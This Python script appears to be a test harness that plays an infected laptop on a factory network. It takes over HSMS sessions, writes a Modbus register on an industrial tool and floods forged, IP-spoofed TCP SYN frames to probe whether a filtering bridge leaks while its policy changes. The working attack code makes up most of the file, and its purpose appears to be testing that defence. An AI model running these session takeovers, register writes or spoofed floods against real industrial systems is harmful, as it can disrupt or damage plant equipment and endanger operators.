"""The infected laptop, on the same segment as the factory's host.

Over and over it tries the tool's ports, and where one opens it does what
malware would: takes the HSMS session (Select.req), writes a Modbus register.
Beside that it sends forged SYNs: its own MAC, the host's IP address. They are
what a filter that believes addresses lets through, and many enough to find a
moment in which a bridge is open while it changes its policy.
"""

import random
import socket
import struct
import threading

import program

HSMS, MODBUS = 5000, 502
ATTACKS = {
    # length 10 | session FFFF, no stream or function, SType 1: Select.req
    HSMS: struct.pack("!IHBBBBI", 10, 0xFFFF, 0, 0, 0, 1, 1),
    # transaction 1, unit 1, write single register 0 := 0xBAD
    MODBUS: struct.pack("!HHHBBHH", 1, 0, 6, 1, 6, 0, 0xBAD),
}
REPLY_SECONDS = 0.3  # of silence end a reply
ROUND_SECONDS = 1.2  # longer than the kernel's first SYN retransmission (1 s)

parser = program.arguments(__doc__)
parser.add_argument("--tool", required=True)
parser.add_argument("--ports", type=int, nargs="+", default=[HSMS, MODBUS, 22, 445])
parser.add_argument("--interface", required=True)
parser.add_argument("--mac", required=True, help="the laptop's own")
parser.add_argument("--tool-mac", required=True)
parser.add_argument("--forge", required=True, help="address to send from that is not ours")
parser.add_argument("--forge-rate", type=int, default=200, help="forged SYNs a second")
args = parser.parse_args()


def try_port(port: int) -> dict:
    with socket.socket() as connection:
        connection.settimeout(ROUND_SECONDS)
        try:
            connection.connect((args.tool, port))
        except TimeoutError:
            return {"outcome": "no answer"}
        except ConnectionRefusedError:
            return {"outcome": "refused"}  # a RST is an answer, too
        except OSError as error:  # ARP unanswered, for example
            return {"outcome": "no answer", "error": str(error)}
        reply = b""
        if port in ATTACKS:
            try:
                connection.sendall(ATTACKS[port])
                connection.settimeout(REPLY_SECONDS)
                while data := connection.recv(4096):
                    reply += data
            except OSError:  # nothing more to come, or reset
                pass
        return {"outcome": "connected", "reply": reply.hex()}


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def forged_syn(client_port: int, port: int) -> bytes:
    """A whole frame, checksums included: nothing is wrong with it but its sender."""
    source, destination = socket.inet_aton(args.forge), socket.inet_aton(args.tool)
    tcp = struct.pack("!HHIIBBHHH", client_port, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, socket.IPPROTO_TCP, 0)
    ip += source + destination
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    macs = bytes.fromhex((args.tool_mac + args.mac).replace(":", ""))
    return macs + b"\x08\x00" + ip + tcp


def forge(result: program.Result):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((args.interface, 0))
        while not result.stop.wait(1 / args.forge_rate):
            # Below the ephemeral ports, so that it is never a port on which
            # the host has a conversation of its own.
            raw.send(forged_syn(random.randrange(1024, 32768), random.choice((HSMS, MODBUS))))
            result.count("forged")


with program.Result(args.result, {"rounds": 0, "forged": 0, "ports": {}}) as result:
    threading.Thread(target=forge, args=(result,), daemon=True).start()
    ports = {str(port): {"attempts": 0, "connected": 0, "refused": 0, "no answer": 0, "reply": ""}
             for port in args.ports}

    def attack(port: int):
        seen = try_port(port)
        tally = ports[str(port)]
        tally["attempts"] += 1
        tally[seen["outcome"]] += 1
        tally["reply"] = tally["reply"] or seen.get("reply", "")  # of the first attack

    while not result.stop.is_set():
        threads = [threading.Thread(target=attack, args=(port,), daemon=True) for port in args.ports]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(ROUND_SECONDS + 1)
        result.set(ports={port: dict(tally) for port, tally in ports.items()})
        result.count("rounds")
        result.stop.wait(0.2)
